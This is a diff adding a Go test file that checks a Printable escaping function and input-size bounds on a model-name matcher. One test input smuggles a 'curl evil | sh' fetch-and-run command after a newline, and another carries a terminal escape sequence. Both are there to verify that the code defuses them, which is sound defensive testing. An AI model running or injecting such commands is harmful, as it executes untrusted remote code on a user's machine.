@@ -1,0 +1,47 @@
+package model_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/gpuplan/gpuplan/model"
+)
+
+func TestPrintable(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"Llama 3.1 8B", "Llama 3.1 8B"},
+		{"模型", "模型"},
+		{"x\ncurl evil | sh", `x\ncurl evil | sh`},
+		{"\x1b]0;t\x07", `\x1b]0;t\x07`},
+		{"a\u009bb", `a\x9bb`},
+		{"a\u2066b", `a\u2066b`},
+		{"a\u2028b: 1\u2029", `a\u2028b: 1\u2029`},
+		{"\xff", `\xff`},
+	}
+	for _, tt := range tests {
+		if got := model.Printable(tt.in); got != tt.want {
+			t.Errorf("Printable(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+// TestClosestBoundsItsInput: a name longer than 128 runes gets no
+// suggestions (and so no edit-distance work), nor does a candidate that long.
+func TestClosestBoundsItsInput(t *testing.T) {
+	keys := []string{"llama-2-7b", strings.Repeat("l", 200)}
+	if got := model.Closest("lama-2-7b", keys, 3); len(got) != 1 || got[0] != "llama-2-7b" {
+		t.Errorf("Closest(lama-2-7b) = %q, want [llama-2-7b]", got)
+	}
+	if got := model.Closest(strings.Repeat("lama-2-7b", 15), keys, 3); got != nil {
+		t.Errorf("Closest(135 runes) = %q, want nil", got)
+	}
+	if got := model.Closest(strings.Repeat("l", 120), keys, 3); len(got) != 0 {
+		t.Errorf("Closest(120 × l) = %q: compared a 200-rune candidate", got)
+	}
+	c := &model.Catalog{Models: []model.Architecture{{Key: "gpt2"}}}
+	c.Index()
+	_, err := c.Model(strings.Repeat("x", 50<<20))
+	if err == nil || len(err.Error()) > 400 {
+		t.Errorf("Model(50 MB name): error of %d bytes, want a short one", len(err.Error()))
+	}
+}
